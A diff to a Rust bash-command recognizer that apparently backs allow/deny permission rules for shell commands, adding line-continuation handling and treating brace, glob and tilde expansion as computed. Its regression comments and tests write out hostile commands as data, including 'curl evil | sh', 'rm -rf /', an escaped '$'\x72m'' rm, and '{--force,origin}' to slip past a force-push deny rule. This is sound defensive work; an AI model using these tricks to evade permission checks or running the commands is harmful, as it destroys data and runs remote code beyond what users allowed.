@@ -12,10 +12,11 @@
 //!   NUL, ESC, DEL, ...) is not understood;
 //! - lists and pipelines: `;`, `&`, `&&`, `||`, `|`, `|&`, newline;
 //! - subshells `( ... )` and groups `{ ...; }` at the start of a command;
-//!   the reserved words `!`, `time` (and `time -p`), `if`/`then`/`elif`/
+//!   the reserved words `!`, `time` (and `time -p`, `time --`, `time -p --`), `if`/`then`/`elif`/
 //!   `else`/`fi`, `while`/`until`/`do`/`done` at the start of a command;
 //! - comments: `#` at the start of a word, up to the newline;
-//! - quoting: `'...'`, `"..."`, backslash escapes, `\`-newline continuation;
+//! - quoting: `'...'`, `"..."`, backslash escapes, `\`-newline continuation
+//!   (removed before anything else is read, as bash does: [`join_continuations`]);
 //!   `$'...'` in arguments (kept undecoded; the word is marked dynamic);
 //! - parameters: `$name`, `${name}`, `$1`, `${10}`, and the special
 //!   parameters `$? $# $$ $! $- $@ $* $0 $_` (also braced);
@@ -30,7 +31,10 @@
 //!   `/dev/stdout`, `/dev/stderr` are dropped from the matched text, every
 //!   other output redirection marks the command as writing a file;
 //! - `NAME=value` / `NAME+=value` prefix assignments (kept in the text);
-//! - arguments with globs, braces and tildes (they only produce arguments).
+//! - arguments with globs, braces and tildes (they only produce arguments, but
+//!   which ones is known only at run time: `{--force,origin}` is two words,
+//!   `--forc?` a file name, so such a word counts as computed for deny and ask
+//!   rules, [`SimpleCommand::dynamic_at`]).
 //!
 //! # What is not modelled (the command asks)
 //!
@@ -270,7 +274,8 @@ pub struct SimpleCommand {
     /// command from them.
     pub argv: Vec<String>,
     /// Byte offset in [`Self::argv_key`] where the first expansion of a word of
-    /// [`Self::argv`] begins (`$x`, `"$(...)"`, backticks, an undecoded `$'...'`): from
+    /// [`Self::argv`] begins (`$x`, `"$(...)"`, backticks, an undecoded `$'...'`, and an
+    /// unquoted brace, glob or tilde expansion point: `{a,b}`, `*`, `?`, `[...]`, `~`): from
     /// there on, the words that run are known only at run time, so a deny or ask rule that
     /// the rest could still match must be assumed to match
     /// ([`crate::matcher::BashPattern::could_match_after`]).
@@ -302,7 +307,7 @@ fn dynamic_offset(words: &[&Word]) -> Option<usize> {
         if i > 0 {
             offset += WORD_BREAK.len_utf8();
         }
-        if let Some(from) = w.dynamic_from {
+        if let Some(from) = w.expands_from() {
             let fixed = w.text.get(..from).unwrap_or_default();
             // A cut inside a character reads as U+FFFD: never past the real boundary.
             return Some(offset + String::from_utf8_lossy(fixed).trim_end_matches('\u{fffd}').len());
@@ -391,8 +396,10 @@ pub fn recognize(command: &str) -> Recognition {
     if let Some(at) = command.bytes().position(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f) {
         problem = Some(NotUnderstood { reason: Unmodelled::ControlCharacter, at });
     }
+    let joined = join_continuations(command.as_bytes());
     let mut p = Parser {
-        src: command.as_bytes(),
+        src: &joined.text,
+        origin: &joined.origin,
         base: 0,
         pos: 0,
         depth: 0,
@@ -405,6 +412,150 @@ pub fn recognize(command: &str) -> Recognition {
         None => Recognition::Understood(out),
         Some(why) => Recognition::NotUnderstood { why, seen: out },
     }
+}
+
+/// A command with its line continuations removed, and where each byte came from.
+struct Joined {
+    text: Vec<u8>,
+    /// `origin[i]` is the offset in the command of `text[i]`; one more entry (the
+    /// command's length) stands for the end.
+    origin: Vec<usize>,
+}
+
+/// Where [`join_continuations`] is, lexically.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Lexical {
+    /// Unquoted shell text: the command line, a subshell, `$(...)`, `<(...)`, `>(...)`.
+    /// `in_word`: the frame was opened inside a word (`$(`, `<(`, `>(`), so its `)` does
+    /// not end the word.
+    Shell { in_word: bool },
+    /// `"..."` (and `$"..."`).
+    Double,
+    /// `'...'`: nothing is special but the closing quote.
+    Single,
+    /// `$'...'`: a backslash escapes the next byte.
+    AnsiC,
+    /// `` `...` ``: bash finds the closing backtick without looking at quotes.
+    Backtick,
+    /// `#` at the start of a word, up to the newline.
+    Comment,
+}
+
+/// Remove every backslash-newline pair (a line continuation) where bash removes it:
+/// everywhere except inside single quotes, `$'...'` and comments. Bash drops these pairs
+/// while it reads its input, before it tokenizes (`shell_getc`), so `$\<nl>(` is `$(`,
+/// `$\<nl>'` is `$'`, `<\<nl>(` is `<(` and `&\<nl>>` is `&>`: the parser must see the
+/// joined text, or a `$` it reads as literal runs a command substitution.
+///
+/// A backslash escapes the byte after it, so pairs are taken two bytes at a time (`\\`
+/// then a newline is an escaped backslash and a real newline). The lexical context is
+/// tracked only as far as it decides where pairs stay: quotes, `$'`, backticks,
+/// comments and the parentheses that open new shell text (`$(`, `(`, `<(`, `>(`). In
+/// constructs the parser does not model (here-documents, `case`) it may be off; such a
+/// command is never allowed by the policy.
+fn join_continuations(src: &[u8]) -> Joined {
+    let mut text = Vec::with_capacity(src.len());
+    let mut origin = Vec::with_capacity(src.len() + 1);
+    let mut stack = vec![Lexical::Shell { in_word: false }];
+    // In the innermost shell frame: the next byte starts a word (a `#` there is a comment).
+    let mut word_start = true;
+    // The last byte kept is an unescaped `$` that can start an expansion (`$(`, `$'`).
+    let mut dollar = false;
+    // The last byte kept is an unescaped `<` or `>` (`<(` and `>(` run commands).
+    let mut angle = false;
+    let mut i = 0;
+    while i < src.len() {
+        let c = src[i];
+        let frame = *stack.last().unwrap_or(&Lexical::Shell { in_word: false });
+        match frame {
+            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {
+                if frame == Lexical::Comment && c == b'\n' {
+                    stack.pop();
+                    word_start = true;
+                    continue; // the newline is read in the enclosing frame
+                }
+                text.push(c);
+                origin.push(i);
+                i += 1;
+                if frame == Lexical::AnsiC && c == b'\\' && i < src.len() {
+                    text.push(src[i]);
+                    origin.push(i);
+                    i += 1;
+                } else if frame != Lexical::Comment && c == b'\'' {
+                    stack.pop();
+                }
+                continue;
+            }
+            Lexical::Shell { .. } | Lexical::Double | Lexical::Backtick => {}
+        }
+        if c == b'\\' {
+            match src.get(i + 1) {
+                Some(b'\n') => {} // a line continuation: dropped, nothing else changes
+                Some(&n) => {
+                    text.extend_from_slice(&[c, n]);
+                    origin.extend_from_slice(&[i, i + 1]);
+                    (dollar, angle, word_start) = (false, false, false);
+                }
+                None => {
+                    text.push(c);
+                    origin.push(i);
+                }
+            }
+            i += 2;
+            continue;
+        }
+        text.push(c);
+        origin.push(i);
+        i += 1;
+        let (was_dollar, was_angle) = (dollar, angle);
+        (dollar, angle) = (false, false);
+        match frame {
+            Lexical::Shell { .. } => {
+                let mut next_word_start = matches!(c, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>');
+                match c {
+                    b'\'' => stack.push(if was_dollar { Lexical::AnsiC } else { Lexical::Single }),
+                    b'"' => stack.push(Lexical::Double),
+                    b'`' => stack.push(Lexical::Backtick),
+                    b'#' if word_start => stack.push(Lexical::Comment),
+                    b'(' => {
+                        stack.push(Lexical::Shell { in_word: was_dollar || was_angle });
+                        next_word_start = true;
+                    }
+                    b')' if stack.len() > 1 => {
+                        let closed = stack.pop();
+                        next_word_start = closed != Some(Lexical::Shell { in_word: true });
+                    }
+                    b')' => next_word_start = true,
+                    b'$' => dollar = !was_dollar,
+                    b'<' | b'>' => angle = true,
+                    _ => {}
+                }
+                word_start = next_word_start;
+            }
+            Lexical::Double => match c {
+                b'"' => {
+                    stack.pop();
+                    word_start = false;
+                }
+                b'`' => stack.push(Lexical::Backtick),
+                b'(' if was_dollar => {
+                    stack.push(Lexical::Shell { in_word: true });
+                    word_start = true;
+                }
+                b'$' => dollar = !was_dollar,
+                _ => {}
+            },
+            Lexical::Backtick => {
+                if c == b'`' {
+                    stack.pop();
+                    word_start = false;
+                }
+            }
+            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {}
+        }
+    }
+    origin.push(src.len());
+    Joined { text, origin }
 }
 
 #[derive(Default)]
@@ -420,6 +571,10 @@ struct Word {
     ansi_c: bool,
     /// Contains an unquoted glob, brace or tilde character.
     pattern: bool,
+    /// Offsets in `text` of unquoted `*`, `?`, `[`, `{` and of a `~` where tilde
+    /// expansion happens: where brace, tilde or pathname expansion may begin
+    /// ([`Word::expands_from`]).
+    expansion_points: Vec<usize>,
     /// An unquoted `NAME=` / `NAME+=` prefix: an assignment word.
     assignment: bool,
     /// A redirection operator or its target.
@@ -432,6 +587,29 @@ impl Word {
     fn mark_dynamic(&mut self) {
         self.dynamic = true;
         self.dynamic_from.get_or_insert(self.text.len());
+    }
+
+    /// Where the words bash makes of this one stop being known from the text: the first
+    /// expansion ([`Word::dynamic_from`]), or the first brace, tilde or pathname
+    /// expansion point. Brace expansion makes several words of one (`{--force,origin}`
+    /// is `--force origin`), a glob becomes whatever file names exist (`--forc?`), a
+    /// tilde a home directory. A point counts when the rest of the word can complete it
+    /// (a `]` after `[`; a `}` and a `,` or `..` after `{`), counting quoted text too, so
+    /// the answer errs towards "computed" (`find -exec ... {} ;` and a lone `[` stay
+    /// literal, as in bash).
+    fn expands_from(&self) -> Option<usize> {
+        let point = self.expansion_points.iter().copied().find(|&at| {
+            let rest = self.text.get(at + 1..).unwrap_or_default();
+            match self.text.get(at) {
+                Some(b'[') => rest.contains(&b']'),
+                Some(b'{') => rest.contains(&b'}') && (rest.contains(&b',') || rest.windows(2).any(|p| p == b"..")),
+                _ => true,
+            }
+        });
+        match (self.dynamic_from, point) {
+            (Some(a), Some(b)) => Some(a.min(b)),
+            (a, b) => a.or(b),
+        }
     }
 }
 
@@ -447,7 +625,11 @@ struct CommandBuilder {
 }
 
 struct Parser<'a> {
+    /// The command with its line continuations removed ([`join_continuations`]), or a
+    /// backtick body taken from it.
     src: &'a [u8],
+    /// [`Joined::origin`] of the whole command: maps offsets back for [`NotUnderstood::at`].
+    origin: &'a [usize],
     /// Offset of `src` in the whole command (backtick bodies are parsed from
     /// a copy).
     base: usize,
@@ -480,7 +662,9 @@ fn is_delimiter(c: u8) -> bool {
 impl Parser<'_> {
     fn fail_at(&mut self, reason: Unmodelled, at: usize) {
         if self.problem.is_none() {
-            *self.problem = Some(NotUnderstood { reason, at: self.base + at });
+            let joined_at = self.base + at;
+            let at = self.origin.get(joined_at).or(self.origin.last()).copied().unwrap_or(joined_at);
+            *self.problem = Some(NotUnderstood { reason, at });
         }
     }
 
@@ -515,6 +699,12 @@ impl Parser<'_> {
         }
         if matches!(c, b'*' | b'?' | b'[' | b'{' | b'}' | b'~') {
             w.pattern = true;
+        }
+        // Tilde expansion happens at the start of a word and after the `=` or `:` of an
+        // assignment-like word (`a=~/x`, `PATH=x:~/bin`).
+        let tilde = c == b'~' && (w.text.is_empty() || matches!(w.text.last(), Some(b'=' | b':')));
+        if matches!(c, b'*' | b'?' | b'[' | b'{') || tilde {
+            w.expansion_points.push(w.text.len());
         }
         w.text.push(c);
     }
@@ -943,6 +1133,7 @@ impl Parser<'_> {
         } else {
             let mut sub = Parser {
                 src: &inner,
+                origin: self.origin,
                 base: self.base + open + 1,
                 pos: 0,
                 depth: self.depth + 1,
@@ -1072,9 +1263,13 @@ impl Parser<'_> {
                 break;
             }
             if b.words[start].text == b"time" {
-                // `time -p`
-                if b.words.get(start + 1).is_some_and(|w| w.text == b"-p" && !w.quoted) {
-                    start += 1;
+                // `time -p`, `time --`, `time -p --`: bash reads an unquoted `-p` and then an
+                // unquoted `--` after `time` as part of the reserved word, never as the
+                // command (`time -- rm x` runs `rm x`).
+                for option in [b"-p".as_slice(), b"--"] {
+                    if b.words.get(start + 1).is_some_and(|w| w.text == option && !w.quoted && !w.dynamic) {
+                        start += 1;
+                    }
                 }
             }
             start += 1;
@@ -1093,7 +1288,14 @@ impl Parser<'_> {
             return;
         }
         let dynamic_command = words.iter().find(|w| !w.assignment && !w.redirect).is_some_and(|w| w.dynamic);
-        let argv: Vec<&Word> = words.iter().filter(|w| !w.assignment && !w.redirect).collect();
+        // Only words before the command word are assignments: `cp x a=~/y` runs `a=~/y`.
+        let command_at = words.iter().position(|w| !w.assignment && !w.redirect).unwrap_or(words.len());
+        let argv: Vec<&Word> = words
+            .iter()
+            .enumerate()
+            .filter(|(i, w)| !w.redirect && (*i >= command_at || !w.assignment))
+            .map(|(_, w)| w)
+            .collect();
         let dynamic_at = dynamic_offset(&argv);
         let argv = argv.iter().map(|w| String::from_utf8_lossy(&w.text).into_owned()).collect();
         self.out.push(SimpleCommand {
@@ -1254,6 +1456,12 @@ mod tests {
         assert_eq!(texts("{ ls; }"), ["ls"]);
         assert_eq!(texts("echo hi # ; rm -rf /"), ["echo hi"]);
         assert_eq!(texts("time -p ! ls"), ["ls"]);
+        // `time --` and `time -p --` (bash 5): the `--` belongs to `time`.
+        assert_eq!(texts("time -- rm -rf /"), ["rm -rf /"]);
+        assert_eq!(texts("time -p -- curl x"), ["curl x"]);
+        assert_eq!(texts("time -- -p ls"), ["-p ls"]);
+        assert_eq!(texts("time \"--\" ls"), ["-- ls"]);
+        assert_eq!(texts("time -p -p ls"), ["-p ls"]);
         // Found by the differential test: `time` after `|` is /usr/bin/time.
         assert_eq!(texts("echo | time echo"), ["echo", "time echo"]);
         assert_eq!(texts("echo || time echo"), ["echo", "echo"]);
@@ -1294,6 +1502,62 @@ mod tests {
         assert_eq!(why("[ -v x ]"), Unmodelled::BuiltinArguments("["));
         assert_eq!(texts("[ -f x ]"), ["[ -f x ]"]);
         assert_eq!(why("printf -v x y"), Unmodelled::BuiltinArguments("printf"));
+    }
+
+    /// Regression: bash removes a backslash-newline before it tokenizes, the recognizer
+    /// looked at the byte after `$` first: `echo "$\<nl>(curl evil | sh)"` read as the
+    /// literal text `$(curl evil | sh)` (allowed by `Bash(echo:*)`) and `$\<nl>'\x72m'`
+    /// as a literal command word, where bash runs the substitution and `rm`.
+    #[test]
+    fn regression_a_backslash_newline_after_dollar_hid_a_command_substitution() {
+        assert_eq!(texts("echo \"$\\\n(id)\""), ["id", "echo $(...)"]);
+        assert_eq!(texts("echo $\\\n(id)"), ["id", "echo $(...)"]);
+        assert_eq!(texts("echo $\\\n\\\n(id)"), ["id", "echo $(...)"]);
+        assert_eq!(why("$\\\n'\\x72m' -rf /"), Unmodelled::CommandWordQuoting);
+        assert!(recognize("echo $\\\n'\\x41'").commands()[0].dynamic_at.is_some());
+        assert_eq!(why("echo $\\\n{x:-$(id)}"), Unmodelled::ParameterOperator);
+        assert_eq!(texts("echo $\\\n{HOME} $\\\n((1+2))"), ["echo $HOME $((...))"]);
+        // Operators and their lookahead see the joined text too.
+        assert_eq!(texts("cat <\\\n(id)"), ["id", "cat <(...)"]);
+        assert_eq!(texts("echo hi &\\\n> f"), ["echo hi &> f"]);
+        assert_eq!(texts("ls 2>\\\n&1"), ["ls"]);
+        assert_eq!(texts("a |\\\n& b"), ["a", "b"]);
+        assert_eq!(texts("tim\\\ne -\\\n- rm x"), ["rm x"]);
+        // In double quotes and backticks it goes too; an escaped backslash stays.
+        assert_eq!(texts("echo \"a\\\nb\""), ["echo ab"]);
+        assert_eq!(texts("echo \\\\\necho"), ["echo \\", "echo"]);
+        // Single quotes, `$'...'` and comments keep it, as in bash.
+        assert_eq!(texts("echo 'a\\\nb'"), ["echo a\\\nb"]);
+        assert_eq!(texts("echo \"$(echo 'a\\\nb')\""), ["echo a\\\nb", "echo $(...)"]);
+        assert_eq!(why("echo hi # \\\nrm -rf /"), Unmodelled::CommentContinuation);
+        assert_eq!(texts("echo a\\\n#b"), ["echo a#b"]);
+        assert_eq!(texts("echo \\\n#b"), ["echo"]);
+        // Offsets are the command's, not the joined text's.
+        assert_eq!(recognize("echo \\\n$\\\n{x@P}").not_understood().map(|n| n.at), Some(7));
+    }
+
+    /// Regression: an unquoted brace, glob or tilde was matched as literal text, so under
+    /// `deny: Bash(git push --force:*)` the command `git push {--force,origin} main`
+    /// (which bash runs as `git push --force origin main`) was allowed. Such a word is
+    /// computed at run time from its first expansion point on.
+    #[test]
+    fn regression_a_brace_or_glob_expansion_in_an_argument_was_read_as_literal_text() {
+        let at = |cmd: &str| recognize(cmd).commands()[0].dynamic_at;
+        let key = |s: &str| s.replace(' ', &WORD_BREAK.to_string()).len();
+        assert_eq!(at("git push {--force,origin} main"), Some(key("git push ")));
+        assert_eq!(at("git push origin main --forc?"), Some(key("git push origin main --forc")));
+        assert_eq!(at("git push origin ma* x"), Some(key("git push origin ma")));
+        assert_eq!(at("git push origin --f[o]rce"), Some(key("git push origin --f")));
+        assert_eq!(at("echo a{1..3}"), Some(key("echo a")));
+        assert_eq!(at("rm -rf ~"), Some(key("rm -rf ")));
+        assert_eq!(at("cp x a=~/y"), Some(key("cp x a=")));
+        assert_eq!(at("echo $HOME {a,b}"), Some(key("echo ")));
+        // Literal in bash: quoted, no closing bracket or brace, no alternatives, `~` inside.
+        assert_eq!(at("echo '{a,b}' \"*\" \\? x\\*"), None);
+        assert_eq!(at("find . -name x -exec rm {} ;"), None);
+        assert_eq!(at("[ -f x ]"), None);
+        assert_eq!(at("git log HEAD~1 @{u}"), None);
+        assert_eq!(texts("{ ls; }"), ["ls"]);
     }
 
     #[test]
